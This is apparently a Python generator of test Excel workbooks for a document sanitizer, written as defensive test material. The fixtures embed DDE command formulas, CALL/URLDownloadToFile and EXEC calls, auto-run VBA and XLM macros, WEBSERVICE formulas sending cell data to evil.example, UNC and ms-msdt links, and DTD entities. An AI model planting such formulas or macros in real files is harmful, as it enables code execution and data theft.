"""Excel workbooks: one for each thing that must go, and broken ones."""
import metafilemaker as meta
import ooxmlcases as cases
from ooxmlmaker import (add_chart, chart_frame, docx, paragraph, MAIN, MICROSOFT, NAMESPACES, OFFICE, OLE, SHEET, STRICT, VBA, Package,
                        cell, compound_file, declare, escape, ole_object, rows, sheet_xml, vba_project,
                        xlsx, zip_members)
from sample import Sample

EXCEL = OFFICE + "spreadsheetml."
PLAIN = rows([cell("A1", 1), cell("B1", 2), cell("C1", 3, "SUM(A1:B1)")])


def sample(name, package, *removals, **more):
    data = package if isinstance(package, bytes) else package.data()
    if removals:
        more["removals"] = [kind if "." in kind else "ooxml." + kind for kind in removals]
    else:
        more.setdefault("verdict", "unchanged")
    return Sample(name, data, **more)


def blocked(name, package, reason, **more):
    data = package if isinstance(package, bytes) else package.data()
    return Sample(name, data, verdict="blocked", reason=reason, **more)


def with_macro(content_type, **more):
    package = xlsx(sheet_xml(PLAIN), content_type=content_type, **more)
    package.part("rIdV", VBA[0], "xl/vbaProject.bin", VBA[1], vba_project(
        'Attribute VB_Name = "ThisWorkbook"\r\nPrivate Sub Workbook_Open()\r\n'
        '    Shell "calc.exe"\r\nEnd Sub\r\n', "ThisWorkbook"))
    return package


def text_cell(reference, text, inner=""):
    return f'<c r="{reference}" t="inlineStr"><is><t>{text}</t>{inner}</is></c>'


def good():
    formulas = ["SUM(A1:B1)", 'IF(A1>0,"あり|なし","[1]なし")', "VLOOKUP(A1,'単価表'!$A$1:$B$9,2,0)",
                "_xlfn.XLOOKUP(A1,A:A,B:B)", "表1[[#This Row],[単価]]*2", "A1:INDEX(B:B,3)",
                'HYPERLINK("https://www.example.jp/","案内")', 'HYPERLINK("#"&"単価表!A1","先頭")',
                "税率*A1", "{1,2;3,4}", "#REF!+1", 'INDIRECT("A"&1)', "LET(_xlpm.x,1,_xlpm.x+1)"]
    package = xlsx(sheet_xml(
        rows([text_cell("A1", "単価", '<rPh sb="0" eb="2"><t>タンカ</t></rPh>')],
             *[[cell(f"A{i}", 0, text)] for i, text in enumerate(formulas, 2)]),
        behind='<hyperlinks><hyperlink ref="A1" r:id="rId1"/><hyperlink ref="A2" '
        'location="単価表!A1"/></hyperlinks>', namespaces=("x14",)),
        names='<definedName name="税率">0.1</definedName><definedName name="_xlnm.Print_Area" '
        'localSheetId="0">単価表!$A$1:$B$9</definedName>')
    package.link("rId1", "hyperlink", "https://www.example.jp/", SHEET)
    package.part("rId9", "calcChain", "xl/calcChain.xml", EXCEL + "calcChain+xml",
                 f'<calcChain xmlns="{MAIN}spreadsheetml/2006/main"><c r="A2" i="1"/></calcChain>')
    yield sample("plain.xlsx", package, note="formulas, names, links and furigana stay")
    strict = Package("xl/workbook.xml", EXCEL + "sheet.main+xml",
                     '<workbook xmlns="http://purl.oclc.org/ooxml/spreadsheetml/main" '
                     'xmlns:r="http://purl.oclc.org/ooxml/officeDocument/relationships"><sheets>'
                     '<sheet name="s" sheetId="1" r:id="rId1"/></sheets></workbook>',
                     relation=STRICT + "officeDocument")
    strict.part("rId1", STRICT + "worksheet", SHEET, EXCEL + "worksheet+xml",
                sheet_xml(PLAIN).replace(MAIN + "spreadsheetml/2006/main",
                                         "http://purl.oclc.org/ooxml/spreadsheetml/main"))
    yield sample("strict.xlsx", strict)
    for name, properties in (("shown.xlsx", ""), ("shown-1904.xlsx", '<workbookPr date1904="1"/>')):
        codes = ["yyyy/m/d", "[$-411]ggge\"年\"m\"月\"d\"日\"", "#,##0\"円\"", "000\\-0000"]
        package = xlsx(sheet_xml(rows(*[[f'<c r="A{i}" s="{i}"><v>{value}</v></c>'] for i, value in
                                        enumerate((45292, 45292, 12345, 1000001, 0.256, 0.1), 1)])))
        package.parts["xl/workbook.xml"] = package.parts["xl/workbook.xml"].replace(
            b"<sheets>", properties.encode() + b"<sheets>")
        package.part("rId8", "styles", "xl/styles.xml", EXCEL + "styles+xml",
                     f'<styleSheet xmlns="{MAIN}spreadsheetml/2006/main"><numFmts count="4">' +
                     "".join(f'<numFmt numFmtId="{164 + i}" formatCode="{escape(code)}"/>'
                             for i, code in enumerate(codes)) + '</numFmts><cellXfs count="6">' +
                     "".join(f'<xf numFmtId="{number}"/>' for number in
                             (0, 164, 165, 166, 167, 10, 0)) + '</cellXfs></styleSheet>')
        yield sample(name, package, note="dates and numbers as text mode shows them")
    yield sample("template.xltx", xlsx(sheet_xml(PLAIN), content_type=EXCEL + "template.main+xml"))


def external():
    sheet = sheet_xml(rows(
        [text_cell("A1", "品名"), text_cell("B1", "単価")],
        [text_cell("A2", "用紙"), cell("B2", 480, "[1]単価!$B$2")],
        [text_cell("A3", "為替"), cell("B3", 151, 'WEBSERVICE("https://evil.example/?"&A1)')],
        [text_cell("A4", "図"), cell("B4", 0, '_xlfn.IMAGE("https://evil.example/p.png")')],
        [text_cell("A5", "合計"), cell("B5", 631, "SUM(B2:B4)")]))
    package = xlsx(sheet, behind='<externalReferences><externalReference r:id="rIdE"/>'
                   '</externalReferences>')
    package.part("rIdE", "externalLink", "xl/externalLinks/externalLink1.xml",
                 EXCEL + "externalLink+xml",
                 f'<externalLink xmlns="{MAIN}spreadsheetml/2006/main"{declare("r")}>'
                 '<externalBook r:id="rId1"/></externalLink>')
    package.link("rId1", "externalLinkPath", "file:///\\\\203.0.113.9\\share\\原価.xlsx",
                 "xl/externalLinks/externalLink1.xml")
    yield sample("単価表.xlsx", package, "external_workbook", "formula", demo=True,
                 note="an external link and formulas that fetch; the values stay")
    for name, formula in {
            "dde": "cmd|'/c calc'!A0", "dde-quoted": "'cmd|/c calc'!A0",
            "call": 'CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"http://a","C:\\a",0,0)',
            "register": 'REGISTER.ID("user32","MessageBoxA")', "exec": 'EXEC("calc.exe")',
            "rtd": 'RTD("evil.server",,"x")', "filterxml": 'FILTERXML("<a/>","//a")',
            "addin": "_xll.EVIL(1)", "user-function": "EVIL(1)", "path": "'C:\\x\\[a.xls]s'!A1",
            "hyperlink": 'HYPERLINK("file:///C:/Windows/System32/calc.exe","x")',
            "hyperlink-built": 'HYPERLINK("https://evil.example/?"&A1,"x")',
            "indirect": 'INDIRECT("\'[http://evil.example/a.xlsx]s\'!A1")',
            "path-bare": r"\\evil\share\[a.xlsx]s!A1", "drive-bare": r"C:\x\[a.xlsx]s!A1",
            "book-name": r"\\evil\share\a.xlsx!total", "table-book": "SUM(T[a.xlsx]s!A1)",
            "blank-call": 'WEBSERVICE ("http://a/")',
            "handed-over": '_xlfn.LET(_xlpm.f,_xleta.WEBSERVICE,_xlpm.f("http://a/"))',
            "hyperlink-blank": 'HYPERLINK ("file:///C:/a","x")',
            "hyperlink-prefix": '_xlfn.HYPERLINK("file:///C:/a","x")',
            "hyperlink-book": 'HYPERLINK("#[\\\\evil\\a.xlsx]s!A1","x")',
            "indirect-let": '_xlfn.LET(_xlpm.x,"[\\\\evil\\a.xlsx]s!A1",INDIRECT(_xlpm.x))',
            "indirect-handed-over": '_xlfn.MAP(A1,_xlfn.LAMBDA(_xlpm.x,INDIRECT("[a.xlsx]s!A1")))',
            "lambda-own": '_xlfn.LAMBDA(_xlpm.f,_xlpm.f("http://a/"))(_xleta.IMAGE)',
            "cube": 'CUBEVALUE("c","[m]")', "python": '_xlfn._xlws.PY(0,1)',
            "unterminated": '"abc'}.items():
        yield sample(f"formula-{name}.xlsx", xlsx(sheet_xml(rows([cell("A1", 7, formula)]))),
                     "formula")
    lambdas = "".join(f'<definedName name="{name}">_xlfn.LAMBDA(_xlpm.x,_xlpm.x)</definedName>'
                      for name in ("WEBSERVICE", "_xlfn.IMAGE", "OWN"))
    called = rows(*[[cell(f"A{i}", 1, text)] for i, text in enumerate(
        ('_xlfn.WEBSERVICE("http://a/")', '_xlfn.IMAGE("http://a/")', "OWN(1)",
         "_xlfn.BYROW(A1:A2,_xleta.SUM)", "SUM (A1:A2)"), 1)])
    yield sample("lambda-named-as-function.xlsx", xlsx(sheet_xml(called), names=lambdas), "formula",
                 note="a LAMBDA may not lend a function its name; own ones are called")
    shared = rows([cell("A1", 1, "[1]s!B1", ' t="shared" ref="A1:A2" si="0"')],
                  [cell("A2", 2, "", ' t="shared" si="0"')],
                  [cell("A3", 3, "B3*2", ' t="shared" ref="A3:A4" si="1"')],
                  [cell("A4", 4, "", ' t="shared" si="1"')])
    package = xlsx(sheet_xml(shared))
    package.part("rId9", "calcChain", "xl/calcChain.xml", EXCEL + "calcChain+xml",
                 f'<calcChain xmlns="{MAIN}spreadsheetml/2006/main"><c r="A1" i="1"/></calcChain>')
    yield sample("shared-formula.xlsx", package, "formula", "calc_chain",
                 note="cells of a shared formula go with the one that has its text")
    yield sample("names.xlsx", xlsx(
        sheet_xml(rows([cell("A1", 1, "OUTSIDE*2")], [cell("A2", 2, "INSIDE*2")])),
        names='<definedName name="Auto_Open" hidden="1">単価表!$A$1</definedName>'
        '<definedName name="_xlnm.Auto_Close">単価表!$A$1</definedName>'
        '<definedName name="EVIL" function="1" xlm="1" hidden="1">単価表!$A$1</definedName>'
        '<definedName name="PROC" vbProcedure="1">単価表!$A$1</definedName>'
        '<definedName name="OUTSIDE">[1]s!$A$1</definedName>'
        '<definedName name="INSIDE">単価表!$A$1</definedName>'), "defined_name", "formula")
    behind = ('<conditionalFormatting sqref="A1"><cfRule type="expression" priority="1"><formula>'
              '[1]s!A1=1</formula></cfRule></conditionalFormatting><dataValidations count="1">'
              '<dataValidation type="list" sqref="A1"><formula1>[1]s!$A$1:$A$3</formula1>'
              '</dataValidation></dataValidations>')
    yield sample("validation.xlsx", xlsx(sheet_xml(PLAIN, behind)), "formula")
    hidden = "<mc:AlternateContent><mc:Choice Requires=\"x14\">{0}</mc:Choice></mc:AlternateContent>"
    yield sample("formula-in-choice.xlsx", xlsx(sheet_xml(rows(
        *[[f'<c r="A{i}"><f>1+{form.format("cmd|&apos;/c calc&apos;!A0")}</f><v>1</v></c>']
          for i, form in enumerate((hidden, "<t>{0}</t>", '<b xmlns="">{0}</b>'), 1)]),
        namespaces=("mc", "x14"))), "xml_unknown",
        note="markup compatibility would put the rest of the formula in its place")
    yield sample("link-places.xlsx", xlsx(sheet_xml(PLAIN, '<hyperlinks>' + "".join(
        f'<hyperlink ref="A{i}" location="{place}"/>' for i, place in enumerate(
            (r"\\203.0.113.9\a.exe", "file:///C:/a.exe", "'[a.xlsx]s'!A1", "単価表!A1"), 1)) +
        '</hyperlinks>')), "link", note="paths where places in the workbook belong")
    package = xlsx(sheet_xml(PLAIN, '<hyperlinks><hyperlink ref="A1" r:id="rId1"/></hyperlinks>'))
    package.link("rId1", "hyperlink", "file:///C:/Windows/System32/calc.exe", SHEET)
    yield sample("bad-link.xlsx", package, "link")


def code():
    yield sample("macro.xlsm", with_macro("application/vnd.ms-excel.sheet.macroEnabled.main+xml"),
                 "macro_enabled", "vba_project", output="macro.xlsx")
    yield sample("macro.xltm", with_macro("application/vnd.ms-excel.template.macroEnabled.main+xml"),
                 "macro_enabled", "vba_project", output="macro.xltx")
    yield blocked("addin.xlam", with_macro("application/vnd.ms-excel.addin.macroEnabled.main+xml"),
                  "type.forbidden")
    package = with_macro("application/vnd.ms-excel.sheet.macroEnabled.main+xml",
                         sheets='<sheet name="Macro1" sheetId="2" state="veryHidden" r:id="rId2"/>'
                         '<sheet name="Dialog1" sheetId="3" r:id="rId3"/>',
                         names='<definedName name="Auto_Open">Macro1!$A$1</definedName>')
    package.part("rId2", MICROSOFT + "xlMacrosheet", "xl/macrosheets/sheet1.xml",
                 "application/vnd.ms-excel.macrosheet+xml",
                 '<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main">'
                 '<sheetData><row r="1"><c r="A1"><f>EXEC("calc.exe")</f><v>0</v></c></row>'
                 '</sheetData></xm:macrosheet>')
    package.part("rId3", "dialogsheet", "xl/dialogsheets/sheet1.xml", EXCEL + "dialogsheet+xml",
                 f'<dialogsheet xmlns="{MAIN}spreadsheetml/2006/main"/>')
    yield sample("macro-sheet.xlsm", package, "macro_enabled", "vba_project", "macro_sheet",
                 "dialog_sheet", "defined_name", output="macro-sheet.xlsx",
                 note="empty sheets stand where they stood")
    package = xlsx(sheet_xml(PLAIN, '<drawing r:id="rId1"/><legacyDrawing r:id="rId2"/>'
                             '<oleObjects><oleObject progId="Package" shapeId="1" r:id="rId3"/>'
                             '</oleObjects><controls><control shapeId="2" r:id="rId4"/></controls>'))
    package.part("rId1", "drawing", "xl/drawings/drawing1.xml", OFFICE + "drawing+xml",
                 f'<xdr:wsDr{declare("xdr", "a", "r")}><xdr:absoluteAnchor><xdr:pos x="0" y="0"/>'
                 '<xdr:ext cx="900" cy="900"/><xdr:sp macro="[0]!Evil" textlink="[1]s!A1">'
                 '<xdr:nvSpPr><xdr:cNvPr id="2" name="b"><a:hlinkClick r:id="rId1"/></xdr:cNvPr>'
                 '<xdr:cNvSpPr/></xdr:nvSpPr><xdr:spPr/></xdr:sp><xdr:clientData/>'
                 '</xdr:absoluteAnchor></xdr:wsDr>', source=SHEET)
    package.link("rId1", "hyperlink", "ms-msdt:/id", "xl/drawings/drawing1.xml")
    package.part("rId2", "vmlDrawing", "xl/drawings/vmlDrawing1.vml", OFFICE + "vmlDrawing",
                 f'<xml{declare("v", "o", "x")}><v:shape id="s" o:button="t"><x:ClientData '
                 'ObjectType="Button"><x:FmlaMacro>[0]!Evil</x:FmlaMacro><x:ScriptText>x'
                 '</x:ScriptText><x:FmlaLink>[1]s!$A$1</x:FmlaLink></x:ClientData></v:shape></xml>',
                 source=SHEET)
    package.part("rId3", "oleObject", "xl/embeddings/oleObject1.bin", OLE, ole_object(),
                 source=SHEET)
    package.part("rId4", "control", "xl/activeX/activeX1.xml", "application/vnd.ms-office."
                 "activeX+xml", "<ocx/>", source=SHEET)
    package.part("rId5", MICROSOFT + "ctrlProp", "xl/ctrlProps/ctrlProp1.xml",
                 "application/vnd.ms-excel.controlproperties+xml", "<x/>", source=SHEET)
    yield sample("objects.xlsx", package, "ole_object", "control", "macro_link", "formula", "link",
                 "script")


def metafiles():
    picture = ('<xdr:pic><xdr:nvPicPr><xdr:cNvPr id="2" name="g"/><xdr:cNvPicPr/></xdr:nvPicPr><xdr:blipFill>'
               '<a:blip r:embed="rId1"/><a:stretch><a:fillRect/></a:stretch></xdr:blipFill><xdr:spPr>'
               '<a:prstGeom prst="rect"><a:avLst/></a:prstGeom></xdr:spPr></xdr:pic>')
    drawing = "xl/drawings/drawing1.xml"
    for name, data, *lost in (("emf", meta.EMF), ("wmf", meta.WMF), ("emz", meta.packed(meta.EMF)),
                              ("emf", meta.EMF_DUAL, "picture.metafile"), ("wmf", meta.WMF_DRIVER, "picture.metafile"),
                              ("emf", meta.EMF[:-30], "nested.blocked")):
        package = xlsx(sheet_xml(PLAIN, '<drawing r:id="rIdD"/>'))
        package.part("rIdD", "drawing", drawing, OFFICE + "drawing+xml",
                     f'<xdr:wsDr{declare("xdr", "a", "r")}><xdr:absoluteAnchor><xdr:pos x="0" y="0"/>'
                     f'<xdr:ext cx="900" cy="900"/>{picture}<xdr:clientData/></xdr:absoluteAnchor></xdr:wsDr>',
                     source=SHEET)
        package.part("rId1", "image", f"xl/media/image1.{name}", f"image/x-{name}", data, source=drawing)
        yield sample(f"drawing-{lost[0].split('.')[1] if lost else 'plain'}-{name}.xlsx", package, *lost)


def charted(inner, data, sheet=PLAIN, **more):
    """A workbook with a chart over a document inside of it."""
    package = xlsx(sheet_xml(sheet, '<drawing r:id="rIdD"/>'), **more)
    drawing = "xl/drawings/drawing1.xml"
    package.part("rIdD", "drawing", drawing, OFFICE + "drawing+xml",
                 f'<xdr:wsDr{declare("xdr", "a", "r")}><xdr:absoluteAnchor><xdr:pos x="0" y="0"/>'
                 '<xdr:ext cx="900" cy="900"/><xdr:graphicFrame macro=""><xdr:nvGraphicFramePr>'
                 '<xdr:cNvPr id="2" name="g"/><xdr:cNvGraphicFramePr/></xdr:nvGraphicFramePr>'
                 '<xdr:xfrm><a:off x="0" y="0"/><a:ext cx="0" cy="0"/></xdr:xfrm>'
                 f'{chart_frame("rId1")}</xdr:graphicFrame><xdr:clientData/></xdr:absoluteAnchor>'
                 '</xdr:wsDr>', source=SHEET)
    return add_chart(package, drawing, "rId1", "xl", inner, data)


def embedded():
    letter = docx(paragraph("甲"), content_type="application/vnd.ms-word.document.macroEnabled"
                  ".main+xml").part("rIdV", VBA[0], "word/vbaProject.bin", VBA[1], vba_project())
    package = charted("letter.docm", letter.data())
    chart = "xl/charts/chart1.xml"
    package.parts[chart] = package.parts[chart].replace(b"</c:ser>", (
        '<c:extLst><c:ext uri="{0}"><c15:fullRef xmlns:c15="http://schemas.microsoft.com/office/'
        'drawing/2012/chart"><c15:sqref>[1]s!$A$1</c15:sqref></c15:fullRef></c:ext></c:extLst>'
        '</c:ser>').encode())
    yield sample("chart-range.xlsx", package, "embedded_document", "formula",
                 note="ranges in extensions are formulas too")
    yield sample("embedded-letter.xlsx", charted("letter.docm", letter.data()),
                 "embedded_document", note="sanitized by policy: embedded")
    book = charted("letter.docm", letter.data(), rows([cell("A1", 480, "cmd|'/c calc'!A0")]),
                   content_type="application/vnd.ms-excel.sheet.macroEnabled.main+xml")
    book.part("rIdV", VBA[0], "xl/vbaProject.bin", VBA[1], vba_project())
    yield sample("embedding.xlsm", book, "embedded_document", "macro_enabled", "vba_project",
                 "formula", output="embedding.xlsx")


def sources():
    package = xlsx(sheet_xml(PLAIN, '<tableParts count="1"><tablePart r:id="rId1"/></tableParts>'
                             '<webPublishItems count="0"/>'))
    package.part("rId1", "table", "xl/tables/table1.xml", EXCEL + "table+xml",
                 f'<table xmlns="{MAIN}spreadsheetml/2006/main" id="1" displayName="T" ref="A1:A2" '
                 'tableType="queryTable" connectionId="1"><tableColumns count="1"><tableColumn '
                 'id="1" name="n" queryTableFieldId="1"/></tableColumns></table>', source=SHEET)
    package.part("rId1", "queryTable", "xl/queryTables/queryTable1.xml", EXCEL + "queryTable+xml",
                 f'<queryTable xmlns="{MAIN}spreadsheetml/2006/main" name="q" connectionId="1"/>',
                 source="xl/tables/table1.xml")
    package.part("rId5", "connections", "xl/connections.xml", EXCEL + "connections+xml",
                 f'<connections xmlns="{MAIN}spreadsheetml/2006/main"><connection id="1" '
                 'refreshOnLoad="1"><dbPr connection="Provider=x" command="SELECT"/></connection>'
                 '</connections>')
    package.part("rId6", "xmlMaps", "xl/xmlMaps.xml", "application/xml", "<MapInfo/>")
    package.part("rId7", MICROSOFT + "xlExternalLinkPath/volatileDependencies",
                 "xl/volatileDependencies.xml", EXCEL + "volatileDependencies+xml", "<v/>")
    package.part("rId8", "http://schemas.microsoft.com/office/2007/relationships/"
                 "powerPivotData", "xl/model/item.data", "application/vnd.openxmlformats-"
                 "officedocument.model+data", b"model")
    package.part("rId9", "http://schemas.microsoft.com/office/2023/09/relationships/Python",
                 "xl/python.xml", "application/vnd.ms-excel.python+xml", "<py/>")
    yield sample("sources.xlsx", package, "query_table", "connection", "xml_map", "volatile_data",
                 "data_model", "python", "web_publishing")
    package = xlsx(sheet_xml(PLAIN), behind='<pivotCaches><pivotCache cacheId="1" r:id="rId5"/>'
                   '</pivotCaches>')
    package.part("rId5", "pivotCacheDefinition", "xl/pivotCache/pivotCacheDefinition1.xml",
                 EXCEL + "pivotCacheDefinition+xml",
                 f'<pivotCacheDefinition xmlns="{MAIN}spreadsheetml/2006/main"{declare("r")}>'
                 '<cacheSource type="external" connectionId="1"/><cacheFields count="0"/>'
                 '</pivotCacheDefinition>')
    package.part("rId6", "pivotCacheDefinition", "xl/pivotCache/pivotCacheDefinition2.xml",
                 EXCEL + "pivotCacheDefinition+xml",
                 f'<pivotCacheDefinition xmlns="{MAIN}spreadsheetml/2006/main"{declare("r")}>'
                 '<cacheSource type="worksheet"><worksheetSource ref="A1:B2" sheet="s" r:id="rId1"/>'
                 '</cacheSource><cacheFields count="0"/></pivotCacheDefinition>')
    package.link("rId1", "externalLinkPath", "file:///C:/a.xlsx",
                 "xl/pivotCache/pivotCacheDefinition2.xml")
    yield sample("pivot.xlsx", package, "pivot_source", "external_workbook",
                 note="the cache stays, its outside source goes")
    yield sample("unlisted.xlsx", xlsx(sheet_xml(
        rows([cell("A1", 1), '<c r="B1" evil="x"><fetch>http://evil.example/</fetch><v>2</v></c>']),
        '<webQuery url="http://evil.example/"/><extLst><ext uri="{0}"><x14:evil/></ext></extLst>',
        ("x14",))), "unknown_element", "unknown_attribute",
        note="a known namespace lends no trust to unknown names")
    package = xlsx(sheet_xml(PLAIN, '<customProperties><customPr name="x" r:id="rId2"/>'
                             '</customProperties><pageSetup r:id="rId1"/>'))
    package.part("rId1", "printerSettings", "xl/printerSettings/printerSettings1.bin",
                 EXCEL.rstrip(".") + ".printerSettings", b"\0devmode", source=SHEET)
    package.part("rId2", "customProperty", "xl/customProperty1.bin",
                 EXCEL + "customProperty", b"\1\2\3", source=SHEET)
    package.part("rId7", "customXml", "customXml/item1.xml", None,
                 '<DataMashup xmlns="http://schemas.microsoft.com/DataMashup">UEsDBBQ</DataMashup>')
    yield sample("opaque.xlsx", package, "printer_settings", "custom_property", "custom_xml")


def lists():
    def plain():
        return xlsx(sheet_xml(PLAIN))

    for name, package, kind in cases.with_parts(plain, "xl/workbook.xml", cases.EXCEL_PARTS):
        yield sample(f"{name}.xlsx", package, kind)
    for name, package, kind in cases.with_links(plain, "xl/workbook.xml", cases.EXCEL_LINKS):
        yield sample(f"{name}.xlsx", package, kind)
    for name, kind in cases.SHEET_ELEMENTS.items():
        yield sample(f"element-{name}.xlsx", xlsx(sheet_xml(PLAIN, f"<{name}/>")), kind)
    for name, kind in cases.BOOK_ELEMENTS.items():
        yield sample(f"element-{name}.xlsx", xlsx(sheet_xml(PLAIN), behind=f"<{name}/>"), kind)
    for name, kind in cases.X15_ELEMENTS.items():
        extension = f'<extLst><ext uri="{{0}}"{declare("x15")}><x15:{name}/></ext></extLst>'
        yield sample(f"element-{name}.xlsx", xlsx(sheet_xml(PLAIN), behind=extension), kind)
    control = f'<extLst><ext uri="{{0}}"{declare("x14")}><x14:formControlPr/></ext></extLst>'
    yield sample("element-formControlPr.xlsx", xlsx(sheet_xml(PLAIN, control)), "control")


def broken():
    plain = xlsx(sheet_xml(PLAIN)).data()
    yield blocked("truncated.xlsx", plain[:-40], "malformed.truncated")
    package = xlsx(sheet_xml(PLAIN))
    package.add("xl/sharedStrings.xml", EXCEL + "sharedStrings+xml",
                '<!DOCTYPE sst [<!ENTITY a "x">]><sst><si><t>&a;</t></si></sst>')
    package.relate(package.main, "rId4", "sharedStrings", "xl/sharedStrings.xml")
    yield blocked("entity.xlsx", package, "xml.dtd")
    laughs = xlsx(sheet_xml(PLAIN))
    laughs = zip_members([(name, b'<!DOCTYPE x [<!ENTITY a "b">]>' + data.split(b"\r\n", 1)[1]
                           if name == "[Content_Types].xml" else data)
                          for name, data in laughs.members()])
    yield blocked("content-types-dtd.xlsx", laughs, "xml.dtd")
    yield blocked("binary.xlsb", compound_file({"Contents": b"\x09\x08"}), "type.unsupported")


def samples():
    for group in (good, external, code, embedded, sources, lists, metafiles, broken):
        yield from group()
